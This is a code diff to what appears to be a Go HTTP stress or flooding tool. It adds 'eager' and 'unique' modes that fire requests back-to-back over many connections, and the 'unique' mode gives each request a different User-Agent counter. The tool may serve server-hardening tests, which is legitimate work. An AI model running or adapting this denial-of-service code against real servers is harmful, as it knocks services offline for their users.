@@ -32,7 +32,11 @@ type attack struct {
 	opened      float64 // connections a second, of all machines together
 	once        bool    // one payload for each connection, and the next on a new one
 	unread      bool    // what is answered is never read
+	inTurn      bool    // the payload is sent again once there is an answer
+	counter     int     // where a number of so many digits is in the payload, which each one changes
 }
+
+const digits = 10
 
 var attacks = map[string]func() attack{
 	// 2,700 chunks of one byte: 16 KB on the wire for each request.
@@ -72,6 +76,19 @@ var attacks = map[string]func() attack{
 		text := postLine + common + "Transfer-Encoding: chunked\r\n\r\n" + strings.Repeat(chunk, 128)
 		payload := []byte(text + "0\r\n\r\n")
 		return attack{payload: payload, connections: 30, bytes: 50 * megabyte, opened: 2000}
+	},
+	// Polls one after the other, as good machines send them, as fast as they are answered.
+	"eager": func() attack {
+		payload := []byte(pollLine + common + "\r\n")
+		return attack{payload: payload, connections: 32, bytes: 50 * megabyte, opened: 2000, inTurn: true}
+	},
+	// The same, each of which differs from all before.
+	"unique": func() attack {
+		text := pollLine + common + "User-Agent: "
+		payload := []byte(text + strings.Repeat("0", digits) + "\r\n\r\n")
+		a := attack{payload: payload, connections: 32, bytes: 50 * megabyte, opened: 2000, inTurn: true}
+		a.counter = len(text)
+		return a
 	},
 	// Polls that ask for HTTP/2.
 	"h2c": func() attack {
@@ -241,6 +258,15 @@ func (s *attacker) write(c *hostileConnection) int {
 	if c.fd < 0 || c.done {
 		return 0
 	}
+	if s.counter > 0 && c.at == 0 {
+		for at := s.counter + digits - 1; ; at-- {
+			s.payload[at]++
+			if s.payload[at] <= '9' || at == s.counter {
+				break
+			}
+			s.payload[at] = '0'
+		}
+	}
 	n, err := syscall.Write(c.fd, s.payload[c.at:min(len(s.payload), c.at+piece)])
 	if err == syscall.EAGAIN {
 		return 0
@@ -252,7 +278,7 @@ func (s *attacker) write(c *hostileConnection) int {
 	s.sent += int64(n)
 	c.at += n
 	if c.at == len(s.payload) {
-		c.at, c.done = 0, s.once
+		c.at, c.done = 0, s.once || s.inTurn
 	}
 	s.queue(c)
 	return n
@@ -270,6 +296,10 @@ func (s *attacker) read(c *hostileConnection) {
 		}
 		if n >= 12 && bytes.HasPrefix(s.buffer, []byte("HTTP/1.")) {
 			s.answers[string(s.buffer[9:12])]++
+			if s.inTurn {
+				c.done = false
+				s.queue(c)
+			}
 		}
 	}
 }
